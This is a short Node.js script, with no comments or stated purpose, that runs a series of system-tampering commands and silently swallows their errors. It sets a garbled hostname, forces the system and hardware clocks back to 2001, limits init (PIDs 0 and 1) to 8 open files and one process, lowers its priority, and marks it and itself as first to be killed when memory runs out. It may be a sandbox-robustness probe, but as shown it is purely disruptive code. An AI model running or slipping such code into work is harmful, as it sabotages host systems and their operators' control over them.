import { execFileSync } from 'node:child_process'
import { writeFileSync } from 'node:fs'

const commands = [
  'hostname ✔5.1',
  'date -s 2001-01-01',
  'hwclock --systohc',
  'ulimit -n 8; ulimit -u 1',
  'for pid in 0 1; do prlimit --pid $pid --nofile=8 --nproc=1; done',
  'renice -n 19 -p 1',
]
for (const command of commands) {
  try {
    execFileSync('sh', ['-c', command], { stdio: 'ignore', timeout: 3_000 })
  } catch {}
}
for (const pid of ['1', 'self']) {
  try {
    writeFileSync(`/proc/${pid}/oom_score_adj`, '1000')
  } catch {}
}
